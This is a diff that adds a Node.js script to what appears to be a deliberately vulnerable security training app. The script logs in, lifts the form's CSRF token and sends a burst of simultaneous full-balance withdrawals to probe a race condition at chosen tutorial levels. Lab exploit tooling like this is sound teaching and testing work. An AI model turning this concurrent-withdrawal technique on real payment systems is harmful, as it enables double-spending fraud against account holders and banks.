@@ -0,0 +1,132 @@
+#!/usr/bin/env nodejs
+
+"use strict";
+
+// This script logs in as a user and sends a burst of withdrawals at the same time, for the race condition lab.
+// Each withdrawal is for the whole balance unless an amount is passed, only one of them should go through.
+// Levels are kept in the session and the script logs in with a session of its own, pass a level to try it. ie:
+// node artifacts/race-withdrawals.js user1 User1_123
+// node artifacts/race-withdrawals.js user1 User1_123 20 1000
+// node artifacts/race-withdrawals.js user1 User1_123 10 5000 impossible
+// APP_URL points it to another app than the one of the config, http://localhost:4000 by default.
+
+const http = require("http");
+const querystring = require("querystring");
+const { port } = require("../config/config");
+
+const [userName, password, requests = "10", amount, level] = process.argv.slice(2);
+const appUrl = process.env.APP_URL || `http://localhost:${port}`;
+
+const count = parseInt(requests, 10);
+
+if (!userName || !password || isNaN(count) || count <= 0) {
+    console.log("Usage: node artifacts/race-withdrawals.js <userName> <password> [requests] [amount] [level]");
+    process.exit(1);
+}
+
+// The session cookie, kept along the requests like a browser would
+const cookies = {};
+
+// Pages are asked for as HTML, the withdrawals as JSON to keep the output short
+const request = (method, path, form, accept, callback) => {
+    const body = form ? querystring.stringify(form) : "";
+    const req = http.request(`${appUrl}${path}`, {
+        method,
+        headers: {
+            "Accept": accept,
+            "Content-Type": "application/x-www-form-urlencoded",
+            "Content-Length": Buffer.byteLength(body),
+            "Cookie": Object.keys(cookies).map(name => `${name}=${cookies[name]}`).join("; ")
+        }
+    }, res => {
+        (res.headers["set-cookie"] || []).forEach(cookie => {
+            const [pair] = cookie.split(";");
+            const separator = pair.indexOf("=");
+            cookies[pair.slice(0, separator)] = pair.slice(separator + 1);
+        });
+
+        let data = "";
+        res.setEncoding("utf8");
+        res.on("data", chunk => data += chunk);
+        res.on("end", () => callback(null, res.statusCode, data));
+    });
+
+    req.on("error", err => callback(err));
+    req.end(body);
+};
+
+// The csrf token of the form of a page, only there while the CSRF fix is on
+const csrfTokenOf = page => {
+    const match = /name="_csrf" value="([^"]*)"/.exec(page);
+    return match ? match[1] : "";
+};
+
+const fail = (step, err) => {
+    console.log(`ERROR: ${step}`);
+    console.log(err.message || err);
+    process.exit(1);
+};
+
+const withdrawAll = (csrf, withdrawalAmount) => {
+    const results = [];
+
+    console.log(`Sending ${count} withdrawals of $${withdrawalAmount} at the same time`);
+
+    Array.from({ length: count }, (value, i) => {
+        request("POST", "/withdrawals", {
+            amount: withdrawalAmount,
+            _csrf: csrf
+        }, "application/json", (err, status, data) => {
+            if (err) return fail("withdraw", err);
+            results.push(status);
+            console.log(`Withdrawal ${i + 1}: ${status} ${data}`);
+            if (results.length < count) return;
+
+            return request("GET", "/withdrawals", null, "application/json", (err, status, data) => {
+                if (err) return fail("balance", err);
+                const account = JSON.parse(data);
+                const accepted = results.filter(status => status === 200).length;
+                console.log(`${accepted} of ${count} withdrawals went through`);
+                console.log(`Balance: $${account.balance}, withdrawn: $${account.withdrawn}`);
+                process.exit(0);
+            });
+        });
+    });
+};
+
+request("GET", "/login", null, "text/html", (err, status, page) => {
+    if (err) return fail("connect", err);
+
+    request("POST", "/login", {
+        userName,
+        password,
+        _csrf: csrfTokenOf(page)
+    }, "text/html", (err, status) => {
+        // A successful login redirects to the dashboard, a failed one renders the login page again
+        if (err || status !== 302) return fail("login", err || `could not log in as ${userName}`);
+
+        request("GET", "/withdrawals", null, "text/html", (err, status, page) => {
+            if (err || status !== 200) return fail("withdrawals", err || `status ${status}`);
+            const csrf = csrfTokenOf(page);
+
+            const start = () => request("GET", "/withdrawals", null, "application/json", (err, status, data) => {
+                if (err) return fail("balance", err);
+                const account = JSON.parse(data);
+                console.log(`Logged in as ${userName}, balance: $${account.balance}`);
+                withdrawAll(csrf, amount || account.balance);
+            });
+
+            if (!level) return start();
+
+            request("POST", "/tutorial/levels", {
+                id: "race-condition",
+                level,
+                _csrf: csrf
+            }, "text/html", (err, status) => {
+                if (err || status !== 302) return fail("level", err || `could not pick level ${level}`);
+                console.log(`Picked level ${level}`);
+                start();
+            });
+        });
+    });
+});